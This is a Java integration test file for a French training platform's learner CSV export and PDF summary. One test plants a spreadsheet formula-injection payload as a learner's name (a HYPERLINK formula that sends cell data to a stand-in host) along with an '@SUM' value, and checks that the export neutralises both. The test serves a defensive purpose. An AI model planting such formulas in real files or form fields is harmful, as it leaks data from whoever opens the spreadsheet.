package fr.passeportnumerique.tracking;

import static org.assertj.core.api.Assertions.assertThat;

import fr.passeportnumerique.IntegrationTest;
import fr.passeportnumerique.SignedIn;
import fr.passeportnumerique.TestLearners;
import fr.passeportnumerique.account.AccountService;
import fr.passeportnumerique.account.AppRoles;
import fr.passeportnumerique.account.CompanyDetails;
import fr.passeportnumerique.account.Registration;
import fr.passeportnumerique.account.Sector;
import fr.passeportnumerique.account.WelcomePointService;
import java.io.IOException;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.time.LocalDate;
import java.util.Arrays;
import java.util.List;
import java.util.Locale;
import java.util.UUID;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.jdbc.core.JdbcTemplate;

/** The learners' CSV opens in French spreadsheet software as it is: BOM, semicolons, accents intact. */
@IntegrationTest
class LearnersCsvIT {

    @Autowired
    LearnersCsv csv;

    @Autowired
    JdbcTemplate jdbc;

    @Test
    void the_file_has_a_byte_order_mark_semicolons_and_every_learner_of_the_point() throws Exception {
        long lyon = staffsPoint();

        byte[] bytes =
                SignedIn.as("accueil@example.org", AppRoles.WELCOME_STAFF, () -> csv.export(lyon, Locale.FRENCH));

        assertThat(Arrays.copyOf(bytes, 3)).containsExactly(0xEF, 0xBB, 0xBF);
        List<CSVRecord> records = records(bytes);
        assertThat(records.getFirst().toList())
                .containsExactly(
                        "Nom",
                        "Entreprise",
                        "Secteur",
                        "Salariés",
                        "Dernière activité",
                        "Modules terminés",
                        "Avancement (%)",
                        "Passeport complet",
                        "Positionnement",
                        "Modules acquis au positionnement");
        Long learners = jdbc.queryForObject(
                "select count(*) from user_account a join user_account_role r on r.account_id = a.id"
                        + " and r.role = 'LEARNER' where a.welcome_point_id = ?",
                Long.class,
                lyon);
        assertThat(records).hasSize(learners.intValue() + 1);
        assertThat(records.subList(1, records.size()))
                .anySatisfy(row -> assertThat(row.get(0)).isEqualTo("Léa Apprenante"));
        assertThat(new String(bytes, StandardCharsets.UTF_8)).contains("\r\n").doesNotContain("Ã");
    }

    @Autowired
    AccountService accounts;

    @Autowired
    WelcomePointService welcomePoints;

    @Test
    void a_name_written_as_a_formula_is_exported_as_text_that_no_spreadsheet_computes() throws Exception {
        String formula = "=HYPERLINK(\"https://exemple.invalid/?d=\"&A1;\"Cliquez\")";
        String email = "formule-" + UUID.randomUUID() + "@entreprise-exemple.fr";
        accounts.register(new Registration(
                formula,
                email,
                TestLearners.PASSWORD,
                new CompanyDetails("@SUM(1+1)", "12345678901237", Sector.G, 2, LocalDate.of(2022, 3, 1), "69001", "69"),
                null));
        long lyon = staffsPoint();
        SignedIn.as(email, AppRoles.LEARNER, () -> welcomePoints.join(lyon));

        byte[] bytes =
                SignedIn.as("accueil@example.org", AppRoles.WELCOME_STAFF, () -> csv.export(lyon, Locale.FRENCH));

        List<CSVRecord> records = records(bytes);
        assertThat(records)
                .anySatisfy(row -> assertThat(row.toList()).startsWith("'" + formula, "'@SUM(1+1)"))
                .noneSatisfy(row -> assertThat(row.get(0)).startsWith("="));
    }

    @Autowired
    PointSummaryPdf pdf;

    @Test
    void the_printable_summary_has_the_points_figures_and_modules_and_no_learner_name() throws Exception {
        long lyon = staffsPoint();

        byte[] bytes =
                SignedIn.as("accueil@example.org", AppRoles.WELCOME_STAFF, () -> pdf.render(lyon, Locale.FRENCH));

        org.openpdf.text.pdf.PdfReader reader = new org.openpdf.text.pdf.PdfReader(bytes);
        String text = new org.openpdf.text.pdf.parser.PdfTextExtractor(reader).getTextFromPage(1);
        assertThat(text)
                .contains(
                        "Résumé du point d’accueil",
                        "CCI exemple de Lyon",
                        "apprenants inscrits",
                        "Premiers pas numériques");
        assertThat(text).doesNotContain("Léa Apprenante");
    }

    private long staffsPoint() {
        return jdbc.queryForObject(
                "select welcome_point_id from user_account where email = 'accueil@example.org'", Long.class);
    }

    /** The rows of an export, read past its byte-order mark as a spreadsheet would. */
    static List<CSVRecord> records(byte[] bytes) throws IOException {
        String text = new String(bytes, 3, bytes.length - 3, StandardCharsets.UTF_8);
        return CSVFormat.DEFAULT
                .builder()
                .setDelimiter(';')
                .get()
                .parse(new StringReader(text))
                .getRecords();
    }
}
